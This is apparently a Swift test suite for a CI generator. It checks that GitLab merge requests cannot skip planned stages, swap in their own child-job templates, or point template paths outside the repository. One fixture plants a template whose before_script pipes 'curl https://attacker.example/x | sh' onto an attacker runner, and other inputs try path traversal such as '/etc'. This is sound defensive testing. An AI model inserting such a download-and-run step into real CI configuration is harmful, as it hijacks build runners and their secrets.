import Foundation
import MLCITestSupport
import Testing

/// Two ways a GitLab merge request could run less than the plan says, or run it on its own terms:
/// moving a stage into a pipeline the committed parent `.gitlab-ci.yml` has no trigger job for,
/// and (under `--config-from base`) planting child-job templates in the checkout.
@Suite("GitLab: the committed parent and the base's templates decide what runs")
struct GitLabParentAttackTests {
    static let baseConfig = """
        version: 1
        kinds: {code: ["src/**"]}
        templates: ci-templates
        pipelines:
          ci: {stages: [lint, test]}
        stages:
          lint: {run: 'true', on: [code]}
          test: {run: 'true', on: [code]}
        """

    /// main holds `baseConfig`, its generated `.gitlab-ci.yml` and a trusted child-defaults
    /// template; the branch `mr` edits code and applies `headConfig` and `headDefaults`.
    func repo(headConfig: String, headDefaults: String? = nil) throws -> TemporaryDirectory {
        let repo = try TemporaryDirectory("gitlab-parent-attack")
        try Shell.git(repo.path, "init", "-q", "-b", "main")
        for dir in ["src", "ci-templates/gitlab"] {
            try FileManager.default.createDirectory(atPath: repo.file(dir), withIntermediateDirectories: true)
        }
        try Self.baseConfig.write(toFile: repo.file("mlci.yml"), atomically: false, encoding: .utf8)
        try "tags: [trusted-runner]\n".write(
            toFile: repo.file("ci-templates/gitlab/child-defaults.yml"), atomically: false, encoding: .utf8)
        try "a\n".write(toFile: repo.file("src/a.py"), atomically: false, encoding: .utf8)
        try MLCIRunner.run(["generate", "gitlab"], in: repo.path).requireSuccess()
        try Shell.git(repo.path, "add", "-A")
        try Shell.git(repo.path, "commit", "-qm", "root")
        try Shell.git(repo.path, "checkout", "-q", "-b", "mr")
        try headConfig.write(toFile: repo.file("mlci.yml"), atomically: false, encoding: .utf8)
        if let headDefaults {
            try headDefaults.write(
                toFile: repo.file("ci-templates/gitlab/child-defaults.yml"), atomically: false, encoding: .utf8)
        }
        try "b\n".write(toFile: repo.file("src/a.py"), atomically: false, encoding: .utf8)
        try Shell.git(repo.path, "commit", "-qam", "mr")
        return repo
    }

    static let planJob = ["GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event"]

    @Test("a stage moved into a pipeline the committed parent never triggers fails the child generation, naming it")
    func stageMovedOutOfTheParent() throws {
        let head = Self.baseConfig.replacingOccurrences(
            of: "  ci: {stages: [lint, test]}", with: "  ci: {stages: [lint]}\n  ci2: {stages: [test]}")
        let repo = try repo(headConfig: head)
        // The plan itself says test runs: without the check, no job would ever run it.
        let plan = try PlanHelpers.plan(["--base", "main"], in: repo.path)
        #expect(PlanHelpers.affected(plan).contains("test"))
        for pipeline in ["ci", "ci2"] {
            let child = try MLCIRunner.run(
                ["generate", "gitlab-child", "--pipeline", pipeline, "--base", "main"], in: repo.path,
                environment: Self.planJob)
            #expect(child.status == 1, "\(pipeline): \(child.out)\(child.err)")
            #expect(
                child.err.contains(
                    ".gitlab-ci.yml has no trigger job for the pipeline of affected stage test (pipeline ci2)"),
                "\(child.err)")
        }
        // Committing the regenerated parent makes it run: the check reads the committed file.
        try MLCIRunner.run(["generate", "gitlab", "--force"], in: repo.path).requireSuccess()
        try Shell.git(repo.path, "add", "-A")
        try Shell.git(repo.path, "commit", "-qm", "regenerate")
        let child = try MLCIRunner.run(
            ["generate", "gitlab-child", "--pipeline", "ci2", "--base", "main"], in: repo.path,
            environment: Self.planJob)
        #expect(child.status == 0, "\(child.err)")
        #expect(child.out.contains("MLCI_STAGE: test"), "\(child.out)")
    }

    @Test("under --config-from base the child jobs take the base's templates, not ones the merge request edits")
    func templatesComeFromTheBase() throws {
        let evil = "tags: [attacker-runner]\nbefore_script: [\"curl https://attacker.example/x | sh\"]\n"
        let repo = try repo(headConfig: Self.baseConfig, headDefaults: evil)
        var env = Self.planJob
        env["MLCI_CONFIG_FROM"] = "base"
        let child = try MLCIRunner.run(
            ["generate", "gitlab-child", "--pipeline", "ci", "--base", "main"], in: repo.path, environment: env)
        #expect(child.status == 0, "\(child.err)")
        #expect(child.out.contains("trusted-runner") && !child.out.contains("attacker"), "\(child.out)")
        // Without base config the head's template is used: the test can tell the two apart.
        let head = try MLCIRunner.run(
            ["generate", "gitlab-child", "--pipeline", "ci", "--base", "main"], in: repo.path,
            environment: Self.planJob)
        #expect(head.out.contains("attacker-runner"), "\(head.out)")
    }

    @Test("templates: outside the repository is refused at its line")
    func templatesOutsideTheRepository() throws {
        for dir in ["../..", "/etc", "ci/../../x"] {
            let repo = try TemporaryDirectory("gitlab-templates-outside")
            try Shell.git(repo.path, "init", "-q", "-b", "main")
            let config = Self.baseConfig.replacingOccurrences(
                of: "templates: ci-templates", with: "templates: '\(dir)'")
            try config.write(toFile: repo.file("mlci.yml"), atomically: false, encoding: .utf8)
            let validate = try MLCIRunner.run(["validate"], in: repo.path)
            #expect(validate.status == 2, "\(dir): \(validate.err)")
            #expect(validate.err.contains("mlci.yml:3:"), "\(dir): \(validate.err)")
            #expect(validate.err.contains("templates must be a directory inside the repository"), "\(validate.err)")
        }
    }
}
